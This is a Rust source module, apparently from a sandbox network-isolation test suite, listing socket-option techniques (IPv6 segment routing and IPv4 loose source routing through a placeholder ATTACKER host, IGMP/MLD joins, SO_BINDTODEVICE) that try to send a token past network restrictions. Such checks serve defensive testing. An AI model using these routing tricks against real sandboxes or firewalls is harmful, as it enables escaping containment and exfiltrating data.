//! Socket options that change the path or the shape of packets, or make the kernel send some.

use std::net::Ipv6Addr;

use super::call::{connect, open, open_stream, reports_are_sent, send, send_to, set};
use super::{Aim, Failure, INET, Technique, packet};
use crate::verify::ground::{
    ATTACKER, ATTACKER_V6, INSIDE, INSIDE_LINK, PROVIDER, PROVIDER_PORT, PROVIDER_V6,
};

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("srh-tcp", "IPv6 routing header (SRH), TCP", "8", INET, |a| {
        srh(a, libc::SOCK_STREAM)
    }),
    Technique::wire("srh-udp", "IPv6 routing header (SRH), UDP", "8", INET, |a| {
        srh(a, libc::SOCK_DGRAM)
    }),
    Technique::wire("lsrr", "IPv4 source route (LSRR)", "9", INET, lsrr),
    Technique::wire("igmp", "IPv4 group join (IGMP report)", "15", INET, igmp),
    Technique::wire("mld", "IPv6 group join (MLD report)", "15", INET, mld),
    Technique::calls("bind-device", "SO_BINDTODEVICE", "19", INET, bind_device),
];

fn srh(aim: &Aim, kind: i32) -> Result<(), Failure> {
    let fd = open(libc::AF_INET6, kind | libc::SOCK_NONBLOCK, 0)?;
    let mut header = vec![0, 4, 4, 1, 1, 0, 0, 0]; // RFC 8754, two segments, one left
    for hop in [PROVIDER_V6, ATTACKER_V6] {
        header.extend(packet::octets(hop));
    }
    set(&fd, libc::IPPROTO_IPV6, libc::IPV6_RTHDR, &header)?;
    if kind == libc::SOCK_DGRAM {
        return send_to(&fd, aim.token.as_bytes(), 0, PROVIDER_V6, PROVIDER_PORT);
    }
    connect(aim, &fd, PROVIDER_V6, PROVIDER_PORT)?;
    send(aim, &fd)
}

fn lsrr(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let mut options = vec![1, 131, 7, 4]; // RFC 791: no-op, then loose source route of one hop
    options.extend(packet::octets(ATTACKER));
    set(&fd, libc::IPPROTO_IP, libc::IP_OPTIONS, &options)?;
    send_to(&fd, aim.token.as_bytes(), 0, PROVIDER, PROVIDER_PORT)
}

fn igmp(_: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let request = [packet::octets(packet::group4()), packet::octets(INSIDE)].concat();
    set(&fd, libc::IPPROTO_IP, libc::IP_ADD_MEMBERSHIP, &request)?;
    reports_are_sent();
    Ok(())
}

fn mld(_: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    let mut request = Ipv6Addr::new(0xff05, 0, 0, 0, 0, 0, 0xbeef, 1).octets().to_vec();
    request.extend([0; 4]); // any interface
    set(&fd, libc::IPPROTO_IPV6, libc::IPV6_ADD_MEMBERSHIP, &request)?;
    reports_are_sent();
    Ok(())
}

fn bind_device(_: &Aim) -> Result<(), Failure> {
    let fd = open_stream(ATTACKER, 0)?;
    set(&fd, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, INSIDE_LINK.as_bytes())
}
